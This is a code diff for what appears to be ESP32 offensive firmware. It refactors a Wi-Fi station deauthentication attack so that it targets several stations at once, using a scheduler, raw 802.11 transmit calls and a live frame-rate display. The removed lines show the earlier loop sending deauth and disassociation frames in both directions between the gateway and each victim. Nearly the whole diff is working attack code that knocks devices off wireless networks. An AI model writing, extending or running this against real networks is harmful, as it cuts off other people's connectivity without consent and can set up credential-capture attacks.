@@ -38,18 +38,53 @@ void getGatewayMAC(uint8_t gatewayMAC[6]) {
     }
 }
 
-// Station deauther for targetted attack.
-void stationDeauth(Host host) {
-    uint8_t MAC[6];
+void EspDeauthSink::setChannel(uint8_t channel) {
+    esp_err_t err = esp_wifi_set_channel(channel, WIFI_SECOND_CHAN_NONE);
+    if (err != ESP_OK) Serial.println("Error changing channel");
+}
+
+bool EspDeauthSink::transmit(const uint8_t *frame, size_t len) {
+    return esp_wifi_80211_tx(WIFI_IF_AP, frame, len, false) == ESP_OK;
+}
+
+static void drawDeauthStats(DeauthScheduler &scheduler, int top) {
+    tft.fillRect(7, top, tftWidth - 14, tftHeight - top - 7, bruceConfig.bgColor);
+    tft.setCursor(0, top);
+    size_t rows = max((tftHeight - top - 20) / 8, 1);
+    for (size_t i = 0; i < scheduler.size() && i < rows; i++) {
+        const DeauthTarget &t = scheduler.target(i);
+        bool broadcast = t.frameCount == 2; // no station side frames
+        String line = macToString(broadcast ? t.bssid : t.station) + (broadcast ? "*" : "");
+        padprintln(line + " ch" + String(t.channel) + " " + String(t.fps) + "/" + String(t.rate));
+    }
+    if (scheduler.size() > rows) padprintln("+" + String(scheduler.size() - rows) + " more");
+    tft.drawString("Ch " + String(scheduler.channel()), 12, tftHeight - 16, 1);
+    tft.drawRightString(String(scheduler.totalFps()) + " fps", tftWidth - 12, tftHeight - 16, 1);
+}
+
+bool runDeauthScheduler(DeauthScheduler &scheduler, volatile bool &stopKey, uint32_t maxMs) {
+    int top = tft.getCursorY();
+    uint32_t start = millis();
+    uint32_t lastDraw = start;
+    drawDeauthStats(scheduler, top);
+    while (true) {
+        scheduler.run(micros());
+        if (millis() - lastDraw >= DEAUTH_FPS_WINDOW_MS) {
+            drawDeauthStats(scheduler, top);
+            lastDraw = millis();
+        }
+        if (check(stopKey)) return true;
+        if (maxMs > 0 && millis() - start >= maxMs) return false;
+        vTaskDelay(1); // the scheduler paces itself, this only lets the WiFi tasks run
+    }
+}
+
+static void deauthStations(const std::vector<Host> &hosts) {
     uint8_t gatewayMAC[6];
-    uint8_t victimIP[4];
-    wifi_ap_record_t sta_record;
-    for (int i = 0; i < 4; i++) victimIP[i] = host.ip[i];
     String tssid = WiFi.SSID();
-    int channel;
     getGatewayMAC(gatewayMAC);
     esp_wifi_get_channel(&ap_record.primary, &ap_record.second);
-    channel = ap_record.primary;
+    uint8_t channel = ap_record.primary;
     wifiDisconnect();
     delay(10);
     WiFi.mode(WIFI_AP);
@@ -59,48 +94,38 @@ void stationDeauth(Host host) {
         return;
     }
 
-    memcpy(ap_record.bssid, gatewayMAC, 6);
-    stringToMAC(host.mac.c_str(), MAC);
-    memcpy(sta_record.bssid, MAC, 6);
-
-    // Prepare deauth frame for each AP record
-    memcpy(deauth_frame, deauth_frame_default, sizeof(deauth_frame_default));
+    // Frames both ways, from the gateway to the station and from the station to the gateway
+    EspDeauthSink sink;
+    DeauthScheduler scheduler(sink);
+    for (const auto &host : hosts) {
+        uint8_t MAC[6];
+        stringToMAC(host.mac.c_str(), MAC);
+        if (memcmp(MAC, gatewayMAC, 6) == 0) continue;
+        scheduler.addTarget(MAC, gatewayMAC, channel);
+    }
+    if (scheduler.size() == 0) {
+        displayError("No station to deauth", true);
+        wifiDisconnect();
+        return;
+    }
 
     drawMainBorderWithTitle("Station Deauth");
     tft.setTextSize(FP);
-    padprintln("Trying to deauth one target.");
-    padprintln("Tgt:" + host.mac);
-    padprintln("Tgt: " + ipToString(victimIP));
+    if (hosts.size() == 1) {
+        padprintln("Trying to deauth one target.");
+        padprintln("Tgt: " + hosts[0].ip.toString());
+    } else {
+        padprintln("Trying to deauth " + String(scheduler.size()) + " targets.");
+    }
     padprintln("GTW:" + macToString(gatewayMAC));
-    padprintln("");
     padprintln("Press Any key to STOP.");
+    padprintln("");
 
-    long tmp = millis();
-    int cont = 0;
-    while (!check(AnyKeyPress)) {
-        // Send packets from AP to STA
-        wsl_bypasser_send_raw_frame(&ap_record, ap_record.primary, MAC);
-        deauth_frame[0] = 0xc0; // Deauth Frame
-        send_raw_frame(deauth_frame, sizeof(deauth_frame_default));
-        deauth_frame[0] = 0xa0; // Disassociate Frame
-        send_raw_frame(deauth_frame, sizeof(deauth_frame_default));
-
-        // Send packets from STA to AP
-        wsl_bypasser_send_raw_frame(&sta_record, ap_record.primary, gatewayMAC);
-        deauth_frame[0] = 0xc0; // Deauth Frame
-        send_raw_frame(deauth_frame, sizeof(deauth_frame_default));
-        deauth_frame[0] = 0xa0; // Disassociate Frame
-        send_raw_frame(deauth_frame, sizeof(deauth_frame_default));
-
-        cont += 3 * 4;
-        delay(50);
-        if (millis() - tmp > 1000) {
-            tft.drawRightString(String(cont) + " fps", tftWidth - 12, tftHeight - 16, 1);
-            cont = 0;
-            tmp = millis();
-        }
-    }
-
-    memcpy(deauth_frame, deauth_frame_default, sizeof(deauth_frame_default));
+    runDeauthScheduler(scheduler, AnyKeyPress);
     wifiDisconnect();
 }
+
+// Station deauther for targetted attack.
+void stationDeauth(Host host) { deauthStations({host}); }
+
+void stationDeauth(const std::vector<Host> &hosts) { deauthStations(hosts); }